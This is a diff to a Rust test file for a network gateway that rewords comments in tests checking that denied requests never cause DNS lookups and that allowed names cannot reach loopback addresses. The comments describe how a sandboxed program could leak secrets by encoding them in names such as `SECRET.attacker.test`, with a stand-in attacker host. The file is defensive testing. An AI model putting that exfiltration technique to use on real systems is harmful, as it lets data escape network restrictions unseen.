@@ -1,7 +1,7 @@
-//! Data carried out in the names of requests that are denied.
+//! Data exfiltration by the names of denied requests.
 //!
-//! A program that may reach nothing outside asks for `SECRET.attacker.test`. The request is denied, but if
-//! the gateway looks the name up first, the name server of `attacker.test` has the secret. The attacker
+//! A program that may reach nothing outside requests `SECRET.attacker.test`. The request is denied, but if
+//! the gateway looks the name up first, the name server of `attacker.test` gets the secret. The attacker
 //! spends one refused request for each 200 bytes or so. So a name is looked up only where a rule allows the
 //! name itself, or where the user's `resolve_for_networks` gives up this protection.
 
@@ -22,8 +22,8 @@ const TRUSTED: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 3);
 
 const ROUNDS: usize = 40;
 
-/// Besides the attacker, who has network rules for every port: the neighbour has a rule by name, and for the
-/// third user any name may be looked up.
+/// The attacker has network rules for every port. The neighbour has a rule by name, and for the third user
+/// any name may be looked up.
 const USERS: &str = r#"
 [[user]]
 name = "neighbour"
@@ -40,7 +40,7 @@ to = ["*.lab.test"]
 class = "internal"
 "#;
 
-/// The attacker's names lead to an address that no rule opens, all others to this machine.
+/// The attacker's names resolve to an address that no rule opens, all others to this machine.
 fn name_server() -> NameServer {
     NameServer::start(|name| {
         let is_attackers = name.ends_with("attacker.test");
@@ -48,7 +48,7 @@ fn name_server() -> NameServer {
     })
 }
 
-/// Asks for `target` from `source` by CONNECT; the connection and the status.
+/// Requests `target` from `source` by CONNECT; returns the connection and the status.
 fn connect(gateway: &Gateway, source: Ipv4Addr, target: &str) -> (TcpStream, u16) {
     let mut stream = connect_from(source, gateway.listeners[0]);
     stream.write_all(connect_request(target).as_bytes()).unwrap();
@@ -56,7 +56,7 @@ fn connect(gateway: &Gateway, source: Ipv4Addr, target: &str) -> (TcpStream, u16
     (stream, status)
 }
 
-/// Asks for `host` from `source` by SOCKS5; the reply.
+/// Requests `host` from `source` by SOCKS5; returns the reply.
 fn socks5(gateway: &Gateway, source: Ipv4Addr, host: &str) -> u8 {
     let mut stream = connect_from(source, gateway.listeners[0]);
     stream.write_all(&[&[5, 1, 0][..], &socks_request(host, 443)].concat()).unwrap();
@@ -64,7 +64,7 @@ fn socks5(gateway: &Gateway, source: Ipv4Addr, host: &str) -> u8 {
     read_reply(&mut stream)
 }
 
-/// Asks for a page of `host` from `source`; the status.
+/// Requests a page of `host` from `source`; returns the status.
 fn request(gateway: &Gateway, source: Ipv4Addr, host: &str) -> u16 {
     let mut stream = connect_from(source, gateway.listeners[0]);
     let head = format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
@@ -97,16 +97,16 @@ fn a_denied_name_never_reaches_a_name_server() {
     }
     assert_eq!(tunnelled, ROUNDS + 1, "the neighbour is served");
     let queried = server.queried();
-    assert!(queried.contains("host1.lab.test"), "the server's record is complete: {queried:?}");
+    assert!(queried.contains("host1.lab.test"), "the server records its queries: {queried:?}");
     assert!(!queried.iter().any(|name| name.ends_with("attacker.test")), "{queried:?}");
     gateway.await_metric("tollgate_connections_active", 0.0);
     gateway.await_metric("tollgate_handshakes_active", 0.0);
-    // A thread's first flow may open what it keeps from then on.
+    // A thread's first flow may open files that it keeps.
     before.await_return(&gateway);
 }
 
-/// The servers of an allowed name can have it lead anywhere: also to addresses that a set opens to its own
-/// names. Those must stay closed to it, or that set would open them to every name.
+/// The name servers of an allowed name can resolve it to any address, also to those that a set opens for its
+/// own names. They must stay closed to it, or that set would open them to every name.
 #[test]
 fn addresses_of_a_set_are_open_to_its_names_alone() {
     let destination = Destination::echo();
@@ -131,7 +131,7 @@ addresses = ["127.0.0.0/8"]
         assert_eq!(connect(&gateway, ATTACKER, &format!("host{round}.attacker.test:{port}")).1, 403);
         assert_eq!(connect(&gateway, ATTACKER, &format!("127.0.0.1:{port}")).1, 403);
     }
-    assert_eq!(destination.accepted(), ROUNDS as u64, "nothing that was denied was reached");
+    assert_eq!(destination.accepted(), ROUNDS as u64, "no denied request reached it");
     let denied = gateway.await_log_line("the denial", |line| line["reason"] == "loopback_address");
     assert_eq!(denied["rule"], "user:me/allow[1] *.attacker.test");
 }
